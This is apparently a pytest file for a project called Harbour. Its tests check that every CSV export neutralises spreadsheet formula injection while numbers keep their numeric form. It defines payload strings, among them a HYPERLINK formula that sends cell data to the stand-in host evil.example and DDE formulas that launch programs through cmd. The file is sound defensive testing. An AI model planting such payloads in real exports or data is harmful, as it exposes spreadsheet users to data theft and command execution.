"""Attack: plant a spreadsheet formula in text that ends up in one of Harbour's CSV files.

Whoever can name a directory service (an HSDS import, a listing's staff), a city in an imported
overdose file, or a signal's dismissal reason, can try text such as
``=HYPERLINK("https://evil.example/?"&A2,"Open")``: opened in a spreadsheet, it would run. Every
CSV Harbour writes must carry it as text (a leading single quote), while numbers, negative ones
included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone

from harbour.core import csvsafe
from harbour.core.roles import Role
from harbour.directory import hsds
from harbour.directory import services as ds
from harbour.directory.models import (
    DirectoryOrganization,
    Location,
    Phone,
    Service,
    ServiceAtLocation,
)
from harbour.surveillance import services as surveillance
from harbour.surveillance.models import Signal

LINK = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+1+cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
PAYLOADS = [LINK, DDE, PLUS, MINUS, TAB, CR]
SRC = Path(__file__).resolve().parents[2] / "src" / "harbour"


def _formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ tab or CR, and not a number."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell[:1] in {"=", "+", "-", "@", "\t", "\r"} and not csvsafe.PLAIN_NUMBER.match(cell)
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_prefix_is_neutralised_and_numbers_are_kept(payload: str) -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerow([payload, "-76.486", "-3", "+1.5", "1e-3", "'=quoted", "plain"])
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        "'" + payload, "-76.486", "-3", "+1.5", "1e-3", "''=quoted", "plain",
    ]  # fmt: skip
    assert _formula_cells(out.getvalue()) == []


def test_the_hsds_export_carries_a_formula_service_name_as_text(db: None, tmp_path: Path) -> None:
    # given a listing whose name, description and phone start like formulas
    ds.taxonomy_load_harbour()
    provider = DirectoryOrganization.objects.create(name_en=DDE)
    service = Service.objects.create(
        organization=provider, name_en=LINK, name_fr=LINK, description_en=MINUS
    )
    location = Location.objects.create(organization=provider, latitude=44.23, longitude=-76.486)
    ServiceAtLocation.objects.create(service=service, location=location)
    Phone.objects.create(service=service, number="+1 613 555 0100")
    # when it is exported as an HSDS datapackage
    hsds.export_tabular(tmp_path / "out")
    files = {p.name: p.read_text("utf-8") for p in (tmp_path / "out").glob("*.csv")}
    # then no cell of any file would run, the name is quoted text, the longitude a number
    assert {
        name: _formula_cells(text) for name, text in files.items() if _formula_cells(text)
    } == {}
    services = list(csv.DictReader(io.StringIO(files["services.csv"], newline="")))
    assert [(r["name"], r["description"]) for r in services] == [("'" + LINK, "'" + MINUS)]
    locations = list(csv.DictReader(io.StringIO(files["locations.csv"], newline="")))
    assert [r["longitude"] for r in locations] == ["-76.486"]
    phones = list(csv.DictReader(io.StringIO(files["phones.csv"], newline="")))
    assert [r["number"] for r in phones] == ["'+1 613 555 0100"]
    # and importing the export back gives the text exactly as it was typed
    hsds.import_tabular(tmp_path / "out")
    service.refresh_from_db()
    assert (service.name_en, service.description_en) == (LINK, MINUS)
    assert Phone.objects.get().number == "+1 613 555 0100"


def test_the_signals_export_carries_a_formula_city_and_reason_as_text(
    make_org: Any, make_member: Any, staff_client: Any
) -> None:
    # given a signal for a "city" named by an imported file, dismissed with a formula reason
    org = make_org("health-unit")
    coordinator = make_member(org, Role.COORDINATOR)
    now = timezone.now()
    signal = Signal.objects.create(
        organization=org, method="ears_c2", level="city", area=LINK,
        period_start=now - timedelta(days=1), period_end=now, observed=7, expected=-1.5,
    )  # fmt: skip
    surveillance.signal_dismiss(signal=signal, actor=coordinator, reason=DDE)
    # when a coordinator downloads the signals CSV
    client = staff_client(coordinator)
    response = client.get(f"/org/{org.slug}/surveillance/export/signals.csv")
    assert response.status_code == 200
    text = response.content.decode()
    # then nothing in it would run, and the negative expected count is still a number
    assert _formula_cells(text) == []
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert (row["area"], row["reason"], row["expected"]) == ("'" + LINK, "'" + DDE, "-1.500")


def test_no_csv_file_is_written_around_the_safe_writer() -> None:
    # every CSV export in Harbour (surveillance, outreach, referrals, directory, ...) goes
    # through core.csvsafe: a plain csv.writer or csv.DictWriter anywhere else is a hole
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    found = [
        str(path.relative_to(SRC))
        for path in sorted(SRC.rglob("*.py"))
        if path.name != "csvsafe.py" and direct.search(path.read_text("utf-8"))
    ]
    assert found == []
    users = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if "csvsafe.writer(" in path.read_text("utf-8")
        or "csvsafe.dict_writer(" in path.read_text("utf-8")
    }
    assert users >= {
        "surveillance/views.py", "outreach/views.py", "referrals/views.py", "directory/hsds.py",
    }  # fmt: skip
